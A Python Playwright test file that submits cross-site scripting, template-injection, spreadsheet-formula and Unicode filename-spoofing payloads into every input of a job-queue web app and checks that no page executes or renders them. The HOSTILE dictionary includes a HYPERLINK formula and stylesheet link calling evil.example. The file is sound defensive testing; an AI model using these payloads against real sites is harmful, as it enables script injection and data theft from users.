"""What outsiders and operators can write is text on every page, and runs on none (issue 7, "Done when").

Each hostile text goes into every field that takes it; then every page is opened that could show it. The strict policy
(CSP) would stop a script that got through: the browser's complaint about it fails the test as well.
"""

import re
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any, Final
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Page, expect

from ingest.queue import keys
from ingest.queue.transitions import Failure, Transitions, new_id
from tests.browser.conftest import clear, live, sign_in
from tests.browser.test_live import _stopped
from tests.browser.test_pages import PATHS
from tests.instance import Instance
from tests.waiting import wait_until

OpenPage = Callable[..., Page]

#: By what each tries. All of them would leave an element <x-hit>, an attribute that runs, or window.hit.
HOSTILE: Final = {
    "element": "<x-hit></x-hit><script>window.hit=1</script>",
    "out of an attribute": "\"><x-hit></x-hit><img src=x onerror=window.hit=1>",
    "out of a quoted one": "'><x-hit></x-hit><svg/onload=window.hit=1>",
    "another attribute": "\" autofocus onfocus=window.hit=1 onmouseover=\"window.hit=1",
    "out of what is no text": "</title></textarea></script></style><x-hit></x-hit><script>window.hit=1</script>-->",
    "an address": "javascript:window.hit=1//<x-hit>",
    "a page inside": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><x-hit></x-hit><base href=//evil.test/>',
    "svg and math": '<svg><x-hit></x-hit><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg><math href=x>',
    "a template": "{{ 6*7 }}{% debug %}${window.hit=1}<%= 6*7 %>#{6*7}<x-hit>",
    "escaped before": "&lt;x-hit&gt;&#60;script&#62;window.hit=1&#60;/script&#62;\\u003cx-hit\\u003e",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")<x-hit>',
    "a sheet": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x><x-hit>",
}  # fmt: skip
#: Turned around, and lines that end in scripts alone; some fields refuse these. With markup: the only one that is
#: written everywhere each time, the others are for `make test-all`.
TURNED: Final = "invoice\u202efdp.exe\u2066 a\u2028b\u2029c\"'></title><x-hit></x-hit><script>window.hit=1</script>"
#: What no page may have, whatever was written.
HIT: Final = (
    "x-hit, iframe, base, object, embed, math, [srcdoc], [onerror], [onload], [onfocus], [onmouseover],"
    ' [href^="javascript:"], link[href*="evil"], main style'
)
#: Of the window, in px; no text makes a page wider.
WIDTH: Final = 1024
CONTROLS: Final = re.compile("[\u200e\u200f\u2028-\u202e\u2066-\u2069]")


@pytest.fixture
def mark() -> str:
    return uuid.uuid4().hex[:8]


class Writer:
    """Somebody who writes a text wherever the product takes one, signed in or from outside."""

    def __init__(self, page: Page, instance: Instance, text: str, mark: str) -> None:
        self.page, self.instance, self.text, self.mark = page, instance, text, mark
        self.paths: list[str] = []
        #: Where the text must be read on the page.
        self.shown: list[str] = []

    def write(self) -> None:
        self.event()
        self.dead_letter()
        self.alert()
        self.others()
        self.people()

    def post(self, path: str, body: dict[str, Any]) -> dict[str, Any] | None:
        """From outside; None: it was refused in words."""
        answer = requests.post(f"{self.instance.url}{path}", json=body, timeout=60)
        assert answer.status_code < 500, answer.text
        assert answer.headers["Content-Type"].partition(";")[0] in ("application/json", "application/problem+json")
        found: dict[str, Any] = answer.json()
        return found if answer.ok else None

    def press(self, path: str, **fields: str) -> str:
        """A button or a form; the address of the page that it leads to."""
        token = next(each["value"] for each in self.page.context.cookies() if each["name"] == "csrftoken")
        answer = self.page.request.post(path, form={**fields, "csrfmiddlewaretoken": token})
        assert answer.status < 500, (path, answer.text())
        return answer.url

    def event(self) -> None:
        text = self.text
        sent = self.post("/api/v1/events", {
            "title": text, "source": text[:255], "tenant": text[:255], "severity": "low", "labels": {text: text},
            "payload": {text: [text, {text: text}]}, "delay_seconds": 3600,
        })  # fmt: skip
        sent = sent or self.post("/api/v1/events", {"title": text, "severity": "low", "payload": {text: text}})
        assert sent
        self.shown += [f"/jobs/{sent['id']}/", f"/jobs/{sent['id']}/edit/"]
        self.paths += [f"/jobs/{sent['id']}/raw/"]

    def dead_letter(self) -> None:
        """A worker with that name fails it with that error."""
        text = self.text
        with _stopped(self.instance, "worker", "maintain"), self.instance.redis() as client:
            sent = self.post("/api/v1/events", {"title": text, "severity": "low", "source": f"hostile-{self.mark}"})
            assert sent
            transitions = Transitions(client)
            while (claim := transitions.claim(text, ["low"], claim_id=new_id(), limit=1, lease=60)) is not None:
                (job,) = claim.jobs
                transitions.progress("low", claim.id, job.id, value={text: text}, line=text)
                wrong = Failure(
                    job.id, f"Traceback:\n  {text}\n{text}", error_type=text[:200], message=text, retry=False
                )
                transitions.fail("low", claim.id, text, [wrong])
                if job.id == sent["id"]:
                    break
        self.shown += [f"/jobs/{sent['id']}/"]
        source = quote(f"source:hostile-{self.mark}")

        def is_indexed() -> bool:
            self.page.goto(f"/dead-letters/?filter={source}")
            return self.page.locator(".groups a").count() > 0

        wait_until(is_indexed, what="the index")
        href = self.page.locator(".groups a").first.get_attribute("href")
        assert href
        group = href.partition("?")[0]
        self.press(f"{group}note/", note=self.text)
        self.press(f"{group}assign/", assignee=self.text)
        self.press("/dead-letters/policies/set/", group=group.split("/")[-2], keep_days="3650", reason=self.text)
        self.shown += [group, "/dead-letters/policies/"]
        self.paths += [f"/dead-letters/?filter={source}", f"/replays/new/?filter={source}"]

    def alert(self) -> None:
        text = self.text
        self.post("/api/alerts/event", {
            "title": text, "source": f"hostile-{self.mark}", "severity": "low", "labels": {text: text, "a": text},
        })  # fmt: skip
        found: list[dict[str, Any]] = []

        def there() -> bool:
            answer = self.page.request.get(f"/api/v1/alerts?filter=source:hostile-{self.mark}")
            found[:] = answer.json()["items"]
            return bool(found)

        wait_until(there, what="the alert")
        path = f"/alerts/{found[0]['id']}/"
        self.press(f"{path}acknowledge/", reason=text)
        self.shown += [path]

    def others(self) -> None:
        text = self.text
        device = {"device_id": text, "time": datetime.now(UTC).timestamp(), "lat": 46.5, "lon": 7.25}
        self.post("/api/v1/points", device)
        self.post("/api/messages", {
            "user_id": text, "message": text, "source_type": text, "source_id": text, "chat_id": text,
            "chat_type": "private", "message_id": f"{self.mark} {text}", "response_token": text, "ordering_key": text,
        })  # fmt: skip
        # Another severity word than any that a table knows, so that somebody must map it.
        self.post("/api/v1/events", {"title": "x", "source": text[:255], "severity": text[:90]})
        with self.instance.redis() as client:
            beat = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            name = f"{text} {self.mark}"
            facts = {"queues": text, "last_heartbeat": beat, "state": "busy", "hostname": text, "held": 0}
            client.hset(keys.worker(name), mapping=facts)  # type: ignore[arg-type]
            client.sadd(keys.WORKERS, keys.worker(name))
            client.expire(keys.worker(name), 120)
        self.paths += [f"/workers/{quote(name)}/kill/"]

    def people(self) -> None:
        """What operators write: names, reasons, filters."""
        text = self.text
        self.press("/queues/low/pause/", minutes="0.01", reason=text)
        self.press("/queues/low/resume/")
        self.press("/saved-views/save/", name=f"{text[:60]} {self.mark}", filter="state:failed", shared="on")
        self.press("/ingest/keys/new/", name=f"{text[:60]} {self.mark}", scopes="ingest", source=text, tenant=text)
        self.press("/ingest/add/", source=text[:60], vendor="generic")
        self.press("/ingest/severities/map/", source=text[:255], word=text[:90], priority="low")
        self.press("/ingest/fields/", source=text[:255], fields_text=f"title = {text}")
        made = self.press(
            "/schedules/new/", name=f"{text[:60]} {self.mark}", kind="alert", interval_seconds="86400", timezone="UTC",
            source=text, tenant=text, priority="low", body=f'{{"title": {text!r}}}', catch_up="skip",
        )  # fmt: skip
        self.paths += [re.sub(r"^https?://[^/]+", "", made)]
        asked = quote(text, safe="")
        said = quote(f'"{text}"'.replace("\\", ""), safe="")
        self.paths += [
            *(
                f"{path}?filter={asked}"
                for path in ("/jobs/", "/dead-letters/", "/alerts/", "/audit/", "/replays/new/")
            ),
            *(f"{path}?filter={said}" for path in ("/jobs/", "/dead-letters/", "/alerts/", "/audit/")),
            f"/devices/?text={asked}",
            f"/jobs/?more={asked}",
            f"/jobs/{asked}/",
            f"/schedules/preview/?cron={asked}&timezone={asked}",
            f"/ingest/fields/?source={asked}",
            f"/login/?next={asked}",
        ]


def _is_harmless(page: Page, where: str) -> None:
    assert page.evaluate("window.hit") is None, where
    assert page.locator(HIT).count() == 0, f"{where}\n{page.locator(HIT).first.evaluate('e => e.outerHTML')}"
    read = page.evaluate("document.title + document.body.innerText")
    assert not CONTROLS.search(read), where


@pytest.fixture
def dialogs(page: Page) -> Iterator[list[str]]:
    said: list[str] = []

    def dismiss(dialog: Any) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    yield said
    assert said == []


def _forget(page: Page, writer: Writer) -> None:
    """The shared instance keeps no schedule of ours, and no worker."""
    for each in page.request.get("/api/v1/schedules?limit=100").json()["items"]:
        if writer.mark in each["name"]:
            page.request.delete(
                f"/api/v1/schedules/{quote(each['name'], safe='')}",
                headers={"X-CSRFToken": next(c["value"] for c in page.context.cookies() if c["name"] == "csrftoken")},
            )
    page.goto("/dead-letters/")
    deleting = page.locator('form[action*="/saved-views/"][action$="/delete/"]')
    for path in [form.get_attribute("action") for form in deleting.all()]:
        writer.press(str(path))
    page.goto("/dead-letters/policies/")
    removing = page.locator('form[action^="/dead-letters/policies/"][action$="/remove/"]')
    for path in [form.get_attribute("action") for form in removing.all()]:
        writer.press(str(path))
    with writer.instance.redis() as client:
        name = keys.worker(f"{writer.text} {writer.mark}")
        clear(client, lambda source, message: source == f"hostile-{writer.mark}" or writer.text in (source, message))
        client.srem(keys.WORKERS, name)
        client.delete(name)


def _walk(page: Page, writer: Writer, complaints: list[str]) -> None:
    page.set_viewport_size({"width": WIDTH, "height": 800})
    plain = "".join(f"\\u{ord(each):04x}" if CONTROLS.match(each) else each for each in writer.text)
    for path in (*writer.shown, *writer.paths, *PATHS):
        answer = page.goto(path)
        assert answer
        assert answer.status < 500, path
        _is_harmless(page, path)
        wide = page.evaluate("document.documentElement.scrollWidth")
        assert wide <= WIDTH, f"{path} is {wide} px wide"
        if path in writer.shown:
            text = page.locator("main").inner_text() + " ".join(
                page.locator("textarea").evaluate_all("all => all.map(e => e.value)")
            )
            folded = re.sub(r"\s+", "", text.replace('\\"', '"').replace("\\\\", "\\"))
            assert re.sub(r"\s+", "", plain)[:60] in folded, f"{path} does not show it"
    # The browser itself logs pages that are meant to be missing or refused.
    complaints[:] = [said for said in complaints if not re.search(r"status of 4(04|22|03|09)", said)]


@pytest.mark.parametrize(
    "what",
    [*(pytest.param(each, marks=pytest.mark.long) for each in HOSTILE), "turned around"],
)
def test_what_is_written_anywhere_is_text_on_every_page(
    what: str, page: Page, instance: Instance, mark: str, complaints: list[str], dialogs: list[str]
) -> None:
    page.goto("/")
    writer = Writer(page, instance, HOSTILE.get(what, TURNED), mark)
    try:
        writer.write()
        _walk(page, writer, complaints)
    finally:
        _forget(page, writer)


@pytest.mark.usefixtures("dialogs")
def test_what_scripts_write_is_text_too(page: Page, complaints: list[str]) -> None:
    """Toasts with their Undo, the palette's answers, and marks on the charts: all texts at once."""
    page.goto("/")
    live(page)
    for text in (*HOSTILE.values(), TURNED):
        said = {"text": text, "level": "info", "undo": [text], "log": f"/audit/?filter={text}"}
        page.evaluate("said => document.dispatchEvent(new CustomEvent('said', { detail: said }))", said)
        expect(page.locator("#toast")).to_contain_text(text[:7])
        _is_harmless(page, f"toast {text}")
        token = next(each["value"] for each in page.context.cookies() if each["name"] == "csrftoken")
        made = page.request.post("/api/v1/marks", data={"text": text[:60]}, headers={"X-CSRFToken": token})
        assert made.status == 200, made.text()
    page.keyboard.press("Control+k")
    for text in HOSTILE.values():
        page.get_by_role("combobox", name="Find or do anything").fill(text)
        expect(page.locator('#palette [aria-selected="true"]')).to_contain_text(text[:7])
        _is_harmless(page, f"palette {text}")
    page.keyboard.press("Escape")
    page.goto("/?window=3600")
    live(page)
    _is_harmless(page, "marks")


@pytest.mark.parametrize("text", [HOSTILE["element"], HOSTILE["out of an attribute"]])
def test_what_a_browser_calls_itself_is_text(text: str, open_page: OpenPage) -> None:
    page = open_page(signed_in=False, user_agent=text)
    page.goto("/account/")
    sign_in(page)
    page.goto("/account/")
    expect(page.locator("#sessions")).to_contain_text(text[:60])
    _is_harmless(page, "/account/")
    page.locator("main").get_by_role("button", name="Sign out", exact=True).first.click()
    expect(page).to_have_url("/login/")
